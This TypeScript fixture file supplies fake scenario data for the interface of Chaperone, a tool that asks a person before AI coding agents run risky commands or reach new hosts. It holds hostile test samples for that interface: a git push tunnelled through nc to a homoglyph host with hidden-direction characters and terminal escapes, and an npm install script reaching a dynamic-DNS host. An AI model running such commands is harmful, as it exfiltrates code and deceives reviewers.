// The recorded data itself: one function from a scenario's name to everything that is served.

import type {
  Agent,
  AnsweredRequest,
  AskedHost,
  Credentials,
  EventRow,
  Failure,
  Grant,
  Home,
  Managed,
  Question,
  RequestCard,
  RequestGroup,
  Rules,
  Session,
  Settings,
  Story,
  Why,
} from '../backend';
import { makeEvents, makeStory } from './recorded-activity';
import { NO_KEYCHAIN, makeCredentials } from './recorded-credentials';
import { type HostUse, makeHosts } from './recorded-hosts';
import { BUILT_IN, MANAGED, makeManaged, makeRules, makeWhy } from './recorded-rules';
import type { Fleet } from './recorded-sources';

export const SCENARIOS = [
  'busy', // two sessions, requests waiting, no organisation
  'install', // one command that asks for several hosts
  'fresh', // just installed
  'calm', // sessions, nothing waiting
  'managed', // an organisation's policy, one scope taken away
  'macos', // the same by a configuration profile
  'windows', // the same by Group Policy
  'observe', // the same, and it only observes
  'long', // texts that are long, hostile or both
  'many', // a hundred thousand events
  'broken', // every call fails
  'slow', // every call takes a second and a half
  'late', // every answer comes too late
  'refused', // every answer is refused
  'keyless', // no keychain takes anything
] as const;
export type Scenario = (typeof SCENARIOS)[number];

export interface Recording {
  home: Home;
  managed: Managed | null;
  groups: RequestGroup[];
  answered: AnsweredRequest[];
  sessions: Session[];
  events: EventRow[];
  hosts: HostUse[];
  credentials: Credentials;
  /** Why the keychain takes nothing. */
  keychain: Failure | null;
  rules: Rules;
  grants: Grant[];
  settings: Settings;
  story(session: string): Story | null;
  why(question: Question): Why;
  answers: 'accepted' | 'late' | 'refused';
  failure: Failure | null;
  /** Milliseconds that each call takes. */
  delay: number;
}

const SECOND = 1_000;
const MINUTE = 60 * SECOND;
const HOUR = 60 * MINUTE;

export function recording(name: Scenario | string, now: number): Recording {
  const scenario: Scenario = SCENARIOS.find((known) => known === name) ?? 'busy';
  const ago = (milliseconds: number) => new Date(now - milliseconds).toISOString();
  const fresh = scenario === 'fresh';
  const fleet: Fleet =
    scenario === 'macos' || scenario === 'windows'
      ? scenario
      : scenario === 'managed' || scenario === 'observe'
        ? 'linux'
        : scenario === 'long'
          ? 'broken'
          : 'nobody';
  // What is long is wrong with the policy; the rest of it is nobody's.
  const managed = fleet !== 'nobody' && fleet !== 'broken';
  const manager = makeManaged(fleet, scenario === 'observe', now, ago);

  const session = (fields: Partial<Session> & Pick<Session, 'id'>): Session => ({
    agent: 'Claude Code',
    workspace: '/home/ada/work/api',
    branch: 'main',
    started: ago(24 * MINUTE),
    ended: null,
    exit: null,
    governed: 'sandboxed',
    tier: 'full',
    waiting: 0,
    counts: { allowed: 41, asked: 2, denied: 1 },
    ...fields,
  });

  const api = session({ id: 's-7f3a91c2', waiting: 2 });
  const web = session({
    id: 's-1b20d4e8',
    agent: 'Codex',
    workspace: '/home/ada/work/worktrees/web-search-box',
    branch: 'search-box',
    started: ago(7 * MINUTE),
    waiting: 1,
    counts: { allowed: 12, asked: 1, denied: 0 },
  });
  const past = [
    session({ id: 's-90ab12ff', started: ago(5 * HOUR), ended: ago(4 * HOUR), exit: 'exit 0' }),
    session({
      id: 's-55c0ffee',
      agent: 'demo agent',
      workspace: '/tmp/chaperone-demo',
      branch: null,
      started: ago(26 * HOUR),
      ended: ago(26 * HOUR - 55 * SECOND),
      exit: 'exit 0',
      counts: { allowed: 9, asked: 2, denied: 2 },
    }),
    session({
      id: 's-0badcafe',
      agent: 'Gemini CLI',
      branch: 'try-things',
      started: ago(50 * HOUR),
      ended: ago(49 * HOUR),
      exit: 'signal 9',
      tier: 'reduced',
      counts: { allowed: 120, asked: 0, denied: 6 },
    }),
  ];

  const card = (fields: Partial<RequestCard> & Pick<RequestCard, 'id'>): RequestCard => ({
    session: api.id,
    sentence: 'Publish 3 commits to github.com/acme/api, branch main',
    exact: {
      kind: 'run',
      argv: ['git', 'push', 'origin', 'main'],
      cwd: '/home/ada/work/api',
      environment: [],
    },
    agent: 'Claude Code',
    workspace: '/home/ada/work/api',
    branch: 'main',
    chain: ['claude', 'bash', 'git push origin main'],
    programs: [],
    asked_for: 'Fix the flaky login test and publish it.',
    facts: {
      undoable: { answer: 'no', text: 'What was published can be read by others at once.' },
      leaves_laptop: { answer: 'yes', text: '3 commits go to github.com.' },
      is_new: { answer: 'yes', text: 'No push to this remote was allowed before.' },
    },
    rule: 'commands.rule git push',
    origin: BUILT_IN,
    reason: 'Publishes work.',
    enforced: 'kernel',
    scopes: ['once', 'session', 'workspace'],
    session_scope: ['git', 'push', 'origin'],
    hosts: [],
    asker: null,
    scope_limit: null,
    count: 1,
    asked_at: ago(38 * SECOND),
    expires: new Date(now + 9 * MINUTE + 22 * SECOND).toISOString(),
    at_expiry: 'deny',
    waiting: true,
    ...fields,
  });

  const push = managed
    ? card({
        id: 'r-4d1e',
        origin: MANAGED,
        reason: 'Publishing is decided by a person, each time.',
        scopes: ['once'],
        session_scope: null,
        scope_limit: { kind: 'managed-file', locator: '/etc/chaperone/policy.d/20-acme.toml:31' },
      })
    : card({ id: 'r-4d1e' });
  const publish = card({
    id: 'r-8c02',
    sentence: 'Publish the package @acme/client 2.4.0 to registry.acme.example',
    exact: {
      kind: 'run',
      argv: ['npm', 'publish', '--access', 'public'],
      cwd: '/home/ada/work/api/client',
      environment: [['NPM_CONFIG_REGISTRY', 'https://registry.acme.example']],
    },
    chain: ['claude', 'bash', 'npm publish'],
    rule: 'commands.rule npm publish',
    session_scope: ['npm', 'publish'],
    facts: {
      undoable: { answer: 'no', text: 'A published version stays published.' },
      leaves_laptop: { answer: 'yes', text: 'The package goes to registry.acme.example.' },
      is_new: { answer: 'yes', text: 'This package was never published from here.' },
    },
    count: 3,
    asked_at: ago(12 * SECOND),
    expires: new Date(now + 9 * MINUTE + 48 * SECOND).toISOString(),
  });
  const host = card({
    id: 'r-21f7',
    session: web.id,
    sentence: 'Connect to api.weather.example for the first time',
    exact: { kind: 'connect', host: 'api.weather.example', port: 443 },
    agent: 'Codex',
    workspace: web.workspace,
    branch: web.branch,
    chain: ['codex', 'bash', 'curl'],
    asked_for: null,
    facts: {
      undoable: { answer: 'unknown', text: 'That depends on what is sent.' },
      leaves_laptop: { answer: 'yes', text: 'Whatever the program sends there.' },
      is_new: { answer: 'yes', text: 'No session has reached this host.' },
    },
    rule: null,
    reason: 'The host is not known here.',
    enforced: 'kernel',
    session_scope: null,
    scopes: ['once'],
    asked_at: ago(5 * SECOND),
  });
  const asked = (name: string, fields: Partial<AskedHost> = {}): AskedHost => ({
    name,
    known: 'Nobody has allowed it here before, and no list names it.',
    chosen: true,
    verdict: null,
    ...fields,
  });
  const install = card({
    id: 'r-40ab',
    session: web.id,
    sentence: 'npm install connects to 4 hosts.',
    exact: { kind: 'connect', host: 'cdn.fonts.example', port: 443 },
    agent: 'Codex',
    workspace: web.workspace,
    branch: web.branch,
    chain: ['codex', 'bash', 'npm install'],
    asked_for: null,
    facts: {
      undoable: { answer: 'no', text: 'What was sent cannot be called back.' },
      leaves_laptop: { answer: 'yes', text: 'Whatever the session can read can be sent there.' },
      is_new: { answer: 'unknown', text: '“npm install” asks for it.' },
    },
    rule: 'network.unfamiliar',
    reason: 'None of these hosts is among those that are allowed.',
    scopes: ['once', 'command', 'session', 'workspace'],
    session_scope: null,
    hosts: [
      asked('cdn.fonts.example:443'),
      asked('binaries.esbuild.example:443'),
      asked('files.acme.example:443', {
        known:
          'Nobody has allowed it here before, and no list names it. The policy names api.acme.example, which belongs to acme.example as well.',
      }),
      asked('x7.duckdns.org:443', {
        chosen: false,
        known:
          'Nobody has allowed it here before, and no list names it. It belongs to a service of dynamic names, where anybody has one within a minute. A script that a package brought along asks for it, within “npm install”.',
      }),
    ],
    asker: 'npm install',
    asked_at: ago(3 * SECOND),
    expires: new Date(now + 9 * MINUTE + 57 * SECOND).toISOString(),
  });
  const hostile = card({
    id: 'r-dead',
    sentence:
      'Run a shell script of 41 lines that downloads an archive from a host that nobody has used before, unpacks it over the workspace and then publishes whatever is on the current branch, without the checks that the repository would otherwise run',
    exact: {
      kind: 'run',
      argv: [
        'git',
        '-c',
        'core.sshCommand=ssh -o ProxyCommand="nc %h %p"',
        'push',
        '--no-verify',
        `https://\u0430cme.example/\u202Etig.ipa\u202C/${'deep-folder/'.repeat(24)}repository.git`,
        `HEAD:refs/heads/${'very-long-branch-name-'.repeat(8)}end`,
        'a\u200bb',
        '\u001b[2J\u001b[1;1Hgit status\r',
        `first line\nsecond line\n${'x'.repeat(1_200)}`,
      ],
      cwd: `/home/ada/work/${'clients/'.repeat(12)}api`,
      environment: [
        ['GIT_SSH_COMMAND', 'ssh -i /tmp/\u202Eyek'],
        ['GIT_CONFIG_COUNT', '1'],
      ],
    },
    chain: [
      'claude',
      'bash',
      'make release',
      'bash',
      'python3 scripts/release.py',
      'bash',
      'git push',
    ],
    asked_for: `Please ${'do all of the things that we talked about, '.repeat(12)}thanks.`,
    workspace: `/home/ada/work/${'clients/'.repeat(12)}api`,
    branch: 'feature/'.repeat(10) + 'x',
    session_scope: ['git', '-c', 'core.sshCommand=ssh -o ProxyCommand="nc %h %p"', 'push\u202e'],
    expires: new Date(now + 41 * SECOND).toISOString(),
    enforced: 'cooperative',
    count: 128,
  });
  const moved = card({
    id: 'r-0ff0',
    sentence: 'Remove the branch old-login on github.com/acme/api',
    exact: {
      kind: 'run',
      argv: ['git', 'push', 'origin', '--delete', 'old-login'],
      cwd: '/home/ada/work/api',
      environment: [],
    },
    waiting: false,
    expires: new Date(now + 8 * MINUTE).toISOString(),
  });

  const groups: RequestGroup[] =
    fresh || scenario === 'calm'
      ? []
      : scenario === 'long'
        ? [{ session: { ...api, workspace: hostile.workspace }, requests: [hostile, moved] }]
        : scenario === 'install'
          ? [{ session: web, requests: [install] }]
          : [
              { session: api, requests: [push, publish] },
              { session: web, requests: [host] },
            ];
  const answered: AnsweredRequest[] = fresh
    ? []
    : [
        {
          request: card({ id: 'r-aaaa', sentence: 'Open a pull request on github.com/acme/api' }),
          outcome: 'allowed',
          scope: 'once',
          by: 'you',
          note: null,
          at: ago(16 * SECOND),
        },
        {
          request: card({
            id: 'r-bbbb',
            sentence: 'Remove 214 files beneath dist',
            exact: {
              kind: 'run',
              argv: ['rm', '-rf', 'dist'],
              cwd: '/home/ada/work/api',
              environment: [],
            },
          }),
          outcome: 'denied',
          scope: 'once',
          by: 'you',
          note: 'Only remove dist/cache.',
          at: ago(44 * SECOND),
        },
      ];

  const agent = (fields: Partial<Agent> & Pick<Agent, 'name' | 'title'>): Agent => ({
    version: '2.1.7',
    path: `/usr/local/bin/${fields.name}`,
    governed: 'sandboxed',
    detail: 'Its sessions run in the sandbox; its own sandbox is off inside.',
    command_to_start: `chaperone run -- ${fields.name}`,
    ...fields,
  });
  const agents: Agent[] = [
    agent({ name: 'claude', title: 'Claude Code' }),
    agent({ name: 'codex', title: 'Codex', version: '0.89.0' }),
    agent({
      name: 'gemini',
      title: 'Gemini CLI',
      version: '0.19.4',
      path: '/home/ada/.local/share/npm/lib/node_modules/@google/gemini-cli/bundle/gemini',
      governed: 'not-governed',
      detail: 'It was last started on its own, outside Chaperone.',
    }),
  ];

  const events = fresh
    ? []
    : makeEvents(scenario === 'many' ? 100_000 : 220, [api, web, ...past], now);
  const sessions =
    scenario === 'many'
      ? Array.from({ length: 5_000 }, (_, index) =>
          session({
            id: `s-${index.toString(16).padStart(8, '0')}`,
            started: ago(index * 47 * MINUTE),
            ended: index === 0 ? null : ago(index * 47 * MINUTE - 30 * MINUTE),
            exit: index === 0 ? null : 'exit 0',
            branch: index % 3 === 0 ? 'main' : `issue-${index}`,
          }),
        )
      : [web, api, ...past];

  const recent = fresh ? [] : ['/home/ada/work/api', web.workspace];
  const rules = makeRules(fleet, recent, ago);
  const notProtected = scenario === 'calm';
  const home: Home = {
    protection: fresh
      ? {
          level: 'partly',
          sentence: 'Partly protected: 3 agents are here, and none has run in the sandbox yet.',
          remedy: { text: 'Start an agent through Chaperone.', command: 'chaperone run -- claude' },
        }
      : notProtected
        ? {
            level: 'not',
            sentence: 'Not protected, because this kernel refuses Landlock.',
            remedy: {
              text: 'Boot with Landlock among the security modules.',
              command: 'lsm=landlock,lockdown,yama,apparmor',
            },
          }
        : manager?.observes
          ? {
              level: 'partly',
              sentence: `Partly protected: what would be asked about or denied is only recorded until ${manager.observes.until} (managed-file /etc/chaperone/policy.d/20-acme.toml:4).`,
              remedy: {
                text: 'Read `chaperone history report observed`, then deploy mode = "enforce".',
                command: null,
              },
            }
          : managed
            ? { level: 'protected', sentence: 'Protected.', remedy: null }
            : {
                level: 'partly',
                sentence: 'Partly protected: Gemini CLI runs outside the sandbox.',
                remedy: { text: 'Start it through Chaperone.', command: 'chaperone run -- gemini' },
              },
    managed: manager,
    machine: {
      tier: notProtected ? 'none' : scenario === 'long' ? 'reduced' : 'full',
      losses:
        scenario === 'long'
          ? [
              {
                id: 'secrets-in-workspace',
                detail: 'Secrets inside the workspace cannot be hidden from reading.',
                fix: 'Allow user namespaces: sysctl kernel.unprivileged_userns_clone=1.',
              },
            ]
          : [],
    },
    agents: managed ? agents.slice(0, 2) : fresh ? agents.map(neverStarted) : agents,
    sessions: fresh || scenario === 'calm' ? [] : [web, api],
    away: fresh
      ? null
      : {
          since: ago(3 * HOUR),
          counts: { allowed: 132, asked: 4, denied: 3 },
          latest: events.filter(({ decision }) => decision && decision !== 'allow').slice(0, 4),
        },
    findings: rules.findings,
    unreachable:
      scenario === 'long'
        ? [{ session: 's-0ld5e55', reason: 'it did not answer within 2 seconds' }]
        : [],
    recent_workspaces: recent,
    version: '0.1.0',
  };

  return {
    home,
    managed: manager,
    groups,
    answered,
    sessions: fresh ? [] : sessions,
    events,
    hosts: fresh ? [] : makeHosts(sessions, ago),
    credentials: makeCredentials(fleet, fresh || scenario === 'keyless', ago),
    keychain: scenario === 'keyless' ? NO_KEYCHAIN : null,
    rules,
    grants:
      fresh || managed
        ? []
        : [
            {
              id: 'g-31aa',
              sentence: 'Run git push origin … without asking',
              prefix: ['git', 'push', 'origin'],
              scope: 'session',
              command: null,
              workspace: api.workspace,
              by: 'you, in the window',
              given: ago(18 * MINUTE),
              uses: 2,
              last_used: ago(4 * MINUTE),
              expires: null,
              session: api.id,
            },
            {
              id: 'g-40ab',
              sentence: 'Connect to files.acme.example:443 without asking',
              prefix: ['tcp://files.acme.example:443'],
              scope: 'workspace',
              command: null,
              workspace: web.workspace,
              by: 'you, in the window',
              given: ago(26 * HOUR),
              uses: 11,
              last_used: ago(50 * MINUTE),
              expires: new Date(now + 29 * 24 * HOUR).toISOString(),
              session: web.id,
            },
          ],
    settings: {
      theme: 'system',
      asking_paused_until: scenario === 'calm' ? new Date(now + 25 * MINUTE).toISOString() : null,
    },
    story: (id) => {
      const told = [...sessions].find((one) => one.id === id);
      return told && !fresh ? makeStory(told, now) : null;
    },
    why: (question) => makeWhy(question, managed),
    answers: scenario === 'late' ? 'late' : scenario === 'refused' ? 'refused' : 'accepted',
    failure:
      scenario === 'broken'
        ? {
            message:
              'The history at /home/ada/.local/state/chaperone/history cannot be read: permission denied (os error 13).',
            remedy: 'Make your user its owner: chown -R ada ~/.local/state/chaperone.',
          }
        : null,
    delay: scenario === 'slow' ? 1_500 : 0,
  };
}

function neverStarted(agent: Agent): Agent {
  return {
    ...agent,
    governed: 'not-governed',
    detail: 'It has not been started through Chaperone yet.',
  };
}
